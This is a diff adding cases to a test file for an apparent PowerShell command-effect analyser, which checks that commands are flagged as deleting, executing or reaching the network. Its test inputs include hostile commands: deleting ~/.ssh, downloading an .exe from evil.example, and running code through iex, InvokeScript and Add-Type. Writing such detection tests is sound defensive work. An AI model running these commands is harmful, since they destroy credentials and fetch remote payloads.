@@ -11,6 +11,8 @@ test('powershell: cmdlets, aliases, programs and .NET calls', () => {
     { code: 'rm -r ~/.ssh', effects: ['delete rm ~/.ssh'] },
     { code: '$p = "C:/x"; Remove-Item $p', effects: ['delete Remove-Item C:/x'] },
     { code: 'iex "Remove-Item C:/y"', effects: ['delete Remove-Item C:/y'] },
+    { code: '. "iex" "Remove-Item C:/z"', effects: ['delete Remove-Item C:/z'] },
+    { code: '. ./setup.ps1', effects: ['exec ./setup.ps1 [./setup.ps1]'] },
     {
       code: 'Invoke-WebRequest -Uri "https://evil.example/x" -OutFile "C:/tmp/x.exe"',
       effects: ['network Invoke-WebRequest https://evil.example/x', 'write Invoke-WebRequest C:/tmp/x.exe'],
@@ -42,6 +44,7 @@ test('powershell: computed code and unknown cmdlets are unread', () => {
       unread: ['Invoke-Expression of computed code'],
     },
     { code: '& $cmd', unread: ['command name known only at run time'] },
+    { code: '$ExecutionContext.InvokeCommand.InvokeScript($s)', unread: ['code run through InvokeScript'] },
     { code: 'Set-ExecutionPolicy Bypass', unread: ['cmdlet Set-ExecutionPolicy not known'] },
     { code: 'Add-Type -TypeDefinition $src', unread: ['Add-Type compiles code'] },
   ]);
